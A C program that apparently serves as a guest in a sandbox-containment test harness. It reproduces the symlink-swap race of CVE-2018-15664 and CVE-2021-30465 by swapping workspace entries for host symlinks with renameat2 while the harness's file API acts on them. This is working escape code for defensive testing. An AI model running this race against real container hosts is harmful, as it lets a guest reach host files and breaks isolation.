/* CVE-2018-15664, CVE-2021-30465: swaps a file and a directory of the workspace for symlinks to the host, as fast as it
 * can, while the harness uses the file API on them. Arguments: workspace, host directory, host file in it, seconds.
 * The harness decides whether the attack worked; this program only says that it swapped. */
#include "guest.h"
#include <sys/stat.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static const char *host_directory, *host_file;

static void put(const char *path, const char *text)
{
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC | O_NOFOLLOW, 0666);
    if (fd >= 0) {
        (void)!write(fd, text, strlen(text));
        fchmod(fd, 0666);
        close(fd);
    }
}

static int is_link(const char *path)
{
    struct stat info;
    return lstat(path, &info) == 0 && S_ISLNK(info.st_mode);
}

/* The file API removes and makes things, too: of each pair exactly one must be a link, else nothing is swapped. */
static void untangle(const char *plain, const char *link)
{
    static int aside;
    char name[64];
    if (is_link(plain) == is_link(link)) {
        snprintf(name, sizeof name, "aside-%d", aside++);
        rename(link, name);
        if (is_link(plain))
            unlink(plain);
    }
}

/* Makes again whatever the file API took away. */
static void prepare(void)
{
    char target[4200];
    untangle("dir", "dirlink");
    untangle("file", "filelink");
    if (mkdir("dir", 0777) == 0)
        chmod("dir", 0777);
    snprintf(target, sizeof target, "dir/%s", host_file);
    put(target, "honest");
    put("file", "honest");
    (void)!symlink(host_directory, "dirlink");
    snprintf(target, sizeof target, "%s/%s", host_directory, host_file);
    (void)!symlink(target, "filelink");
}

int main(int argc, char **argv)
{
    long swaps = 0, last_prepared = 0;
    if (argc < 5 || chdir(argv[1]) != 0)
        could_not_try("arguments: workspace, host directory, host file, seconds");
    host_directory = argv[2];
    host_file = argv[3];
    double end = seconds_now() + atof(argv[4]);
    umask(0);
    prepare();
    dprintf(1, "ready\n");
    for (long round = 0; seconds_now() < end; round++) {
        int moved = 0;
        moved += syscall(SYS_renameat2, AT_FDCWD, "dir", AT_FDCWD, "dirlink", RENAME_EXCHANGE) == 0;
        moved += syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "filelink", RENAME_EXCHANGE) == 0;
        swaps += moved;
        if (moved < 2 || round - last_prepared > 1000) {
            last_prepared = round;
            prepare();
        }
    }
    if (swaps < 100)
        could_not_try("only %ld swaps", swaps);
    contained("%ld swaps; the harness looks for what they did", swaps);
}
